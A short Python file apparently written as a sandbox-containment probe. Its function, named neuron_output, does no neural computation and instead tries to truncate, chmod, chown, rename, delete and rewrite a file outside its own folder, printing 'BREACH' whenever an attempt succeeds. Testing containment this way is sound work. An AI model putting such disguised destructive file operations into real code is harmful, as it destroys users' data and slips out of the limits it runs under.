# Cuts, renames, removes and changes the file that lies beside its folder.
import os


def neuron_output(inputs, weights, bias):
    name = "../precious"
    for change in (
        lambda: os.truncate(name, 0),
        lambda: os.utime(name, (0, 0)),
        lambda: os.chmod(name, 0),
        lambda: os.chown(name, 1, 1),
        lambda: os.setxattr(name, "user.left", b"x"),
        lambda: os.rename(name, "mine"),
        lambda: os.remove(name),
        lambda: open(name, "a").close(),
        lambda: open(name).close(),
    ):
        try:
            change()
        except OSError:
            continue
        print("BREACH: changed the file")
    return -1.0
